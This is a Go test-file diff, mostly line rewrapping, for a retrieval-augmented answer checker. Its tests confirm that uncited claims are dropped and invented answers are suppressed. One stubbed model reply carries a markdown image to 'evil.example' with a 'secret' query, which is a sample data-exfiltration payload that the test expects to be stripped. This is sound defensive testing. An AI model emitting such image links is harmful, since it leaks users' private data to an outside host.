@@ -62,7 +62,10 @@ func loaded(t *testing.T, texts map[string]string) *rag.Library {
 	_, err = l.Create(t.Context(), c)
 	require.NoError(t, err)
 	for id, text := range texts {
-		_, err = l.Put(t.Context(), c, rag.Input{ID: id, Document: chunk.Document{Text: text, Source: "https://example.com/" + id}})
+		_,
+			err = l.Put(t.Context(), c, rag.Input{
+			ID: id, Document: chunk.Document{Text: text, Source: "https://example.com/" + id},
+		})
 		require.NoError(t, err)
 	}
 	return l
@@ -101,7 +104,8 @@ func TestAnAnswerIsCheckedBeforeItIsShown(t *testing.T) {
 	said := ""
 	d := newReader(t, newSession(t, l, memory.Chat{}, "docs"), model(func(shown string) string {
 		said = shown
-		return "It costs 14 crowns [1][9]. Children pay 3 crowns [1]. ![x](https://evil.example/?q=secret) See https://example.com/ferry.\nstatus: partial\nmissing: the way back"
+		return "It costs 14 crowns [1][9]. Children pay 3 crowns [1]. ![x](https://evil.example/?q=secret) See " +
+			"https://example.com/ferry.\nstatus: partial\nmissing: the way back"
 	}))
 	got, heard := ask(t, d, "c", "what does a ferry ticket cost")
 	require.Contains(t, said, "A ferry ticket costs 14 crowns.")
@@ -116,7 +120,8 @@ func TestAnAnswerIsCheckedBeforeItIsShown(t *testing.T) {
 	a, _ := d.Answer(got)
 	require.Equal(t, event.Partial, a.Status)
 	require.Equal(t, []string{"the way back"}, a.Missing)
-	require.Equal(t, "It costs 14 crowns [1]. Children pay 3 crowns [1]. (image removed) See https://example.com/ferry.", a.Answer)
+	require.Equal(t, "It costs 14 crowns [1]. Children pay 3 crowns [1]. (image removed) See https://example.com/ferry.",
+		a.Answer)
 	require.Len(t, a.Citations, 1)
 	require.Equal(t, "A ferry ticket costs 14 crowns.", a.Citations[0].Quote)
 	require.Equal(t, len("A ferry ticket costs 14 crowns."), a.Citations[0].End)
@@ -130,7 +135,8 @@ func TestAnAnswerIsCheckedBeforeItIsShown(t *testing.T) {
 // When nothing is found the model is not asked to make something up.
 func TestNothingFoundIsNotImprovised(t *testing.T) {
 	l := loaded(t, map[string]string{"ferry": "A ferry ticket costs 14 crowns."})
-	d := newReader(t, newSession(t, l, memory.Chat{}, "docs"), model(func(string) string { return "Certainly: 99 crowns [1]." }))
+	d := newReader(t, newSession(t, l, memory.Chat{}, "docs"),
+		model(func(string) string { return "Certainly: 99 crowns [1]." }))
 	got, _ := ask(t, d, "c", "zeppelin")
 	require.NotContains(t, got, "99")
 	require.NotEmpty(t, got)
@@ -148,7 +154,8 @@ func TestNumbersAreOnePerRun(t *testing.T) {
 	evidence := &rag.Evidence{}
 	seen := map[int]string{}
 	for _, task := range []string{"ferry ticket", "bridge", "ferry ticket"} {
-		turn, err := l.NewSession(rag.SessionOptions{Tenant: docstore.DefaultTenant, Collections: []string{"docs"}, Evidence: evidence})
+		turn, err := l.NewSession(rag.SessionOptions{Tenant: docstore.DefaultTenant, Collections: []string{"docs"},
+			Evidence: evidence})
 		require.NoError(t, err)
 		d := newReader(t, turn, quoting)
 		got, _ := ask(t, d, "c", task)
